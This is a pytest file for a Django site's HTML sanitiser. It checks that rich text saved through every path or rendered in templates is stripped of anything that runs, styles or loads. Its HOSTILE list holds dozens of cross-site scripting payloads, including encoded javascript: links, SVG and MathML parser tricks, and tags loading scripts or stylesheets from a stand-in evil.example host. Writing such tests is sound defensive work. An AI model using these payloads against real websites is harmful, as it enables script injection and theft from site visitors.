"""Rich text: nothing that runs, styles or loads survives any save path."""

import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import given, strategies as st

from core.models import Block, Page
from core.rich_text import clean_html
from tests.factories.core import BlockFactory, PageFactory

TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "h3", "h4", "a", "blockquote"}
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start")}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='//evil.example'><input name=q><button>x</button></form>",
    "<base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1) onmouseover=alert(1) id=x class=y>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='ftp://evil.example/'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='https://x' target=_blank onclick=alert(1) style=color:red>x</a>",
    "<a href='https://x' ping='//evil.example'>x</a>",
    "<p><![CDATA[<script>alert(1)</script>]]></p>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<ol start='\"><script>alert(1)</script>'><li>x</ol>",
    "<h1>x</h1><h2>y</h2><h5>z</h5>",
    "<div><span>x</span></div>",
    "<p>{{ settings.SECRET_KEY }}{% debug %}</p>",
    "<p>\u202e<script>alert(1)</script>\u202c</p>",
    "＜script＞alert(1)＜/script＞",
    "<p>" * 500 + "deep",
    "<a href='https://x\"onmouseover=alert(1) y=\"'>x</a>",
]
GOOD = (
    "<h3>Title</h3><p>One <strong>two</strong> <em>three</em><br>"
    '<a href="https://bsmu.by/" rel="noopener">link</a></p>'
    '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote><p>c</p></blockquote>'
)


class _Elements(HTMLParser):
    """Every element and attribute that a parser finds."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.links += [value for name, value in attrs if name == "href"]


def assert_harmless(html):
    found = _Elements(html)
    assert found.tags <= TAGS
    assert found.attributes <= ATTRIBUTES
    for link in found.links:
        assert re.match(r"(https?|mailto|tel):|[^:]*$", link), link
    assert "\0" not in html


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless_and_stays_so(html):
    clean = clean_html(html)

    assert_harmless(clean)
    assert clean_html(clean) == clean


@given(st.lists(st.sampled_from(HOSTILE + [GOOD, "<", ">", '"', "'", "&lt;"])))
def test_mixtures_are_harmless_and_cleaning_is_idempotent(parts):
    clean = clean_html("".join(parts))

    assert_harmless(clean)
    assert clean_html(clean) == clean


def test_good_html_is_left_as_it_is():
    assert clean_html(GOOD) == GOOD


@pytest.mark.parametrize(
    "href", ["https://bsmu.by/", "mailto:a@example.org", "tel:+375170000000", "/en/"]
)
def test_allowed_links_survive(href):
    assert f'href="{href}"' in clean_html(f'<a href="{href}">x</a>')


def created(html):
    return BlockFactory(body_ru=html)


def saved(html):
    block = BlockFactory()
    block.body_ru = html
    block.save()
    return block


def updated(html):
    block = BlockFactory()
    Block.objects.filter(pk=block.pk).update(body_ru=html)
    return block


def bulk_created(html):
    Block.objects.bulk_create([Block(page=PageFactory(), key="bulk", body_ru=html)])
    return Block.objects.get(key="bulk")


def bulk_updated(html):
    block = BlockFactory()
    block.body_ru = html
    Block.objects.bulk_update([block], ["body_ru"])
    return block


def cleaned(html):
    block = BlockFactory()
    block.body_ru = html
    block.full_clean()
    block.save()
    return block


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path", [created, saved, updated, bulk_created, bulk_updated, cleaned]
)
@pytest.mark.parametrize("html", HOSTILE[:30:6] + [HOSTILE[-1]])
def test_every_save_path_stores_clean_html(path, html):
    block = path(f"<p>kept</p>{html}")

    stored = Block.objects.get(pk=block.pk).body_ru
    assert stored == clean_html(f"<p>kept</p>{html}")
    assert stored.startswith("<p>kept</p>")


@pytest.mark.django_db
def test_rich_text_is_cleaned_once_more_on_the_way_out():
    page = Page(key="x", body_en="<p onclick=alert(1)>kept<script>x</script></p>")
    template = Template('{% load site %}{% tr_html page "body" %}')

    html = template.render(Context({"page": page}))

    assert "<p>kept</p>" in html
    assert "script" not in html


def test_headings_can_begin_at_the_level_below_the_pages_title():
    page = Page(key="x", body_en="<h3>One</h3><h4>Two</h4><p>h3&gt; h4&gt;</p>")
    template = Template('{% load site %}{% tr_html page "body" top=2 %}')

    html = template.render(Context({"page": page}))

    assert "<h2>One</h2><h3>Two</h3><p>h3&gt; h4&gt;</p>" in html


@pytest.mark.parametrize("attribute", ["title", "lang", "dir", "class", "id"])
def test_attributes_beyond_the_list_are_dropped_from_every_tag(attribute):
    assert clean_html(f'<p {attribute}="x">Text</p>') == "<p>Text</p>"
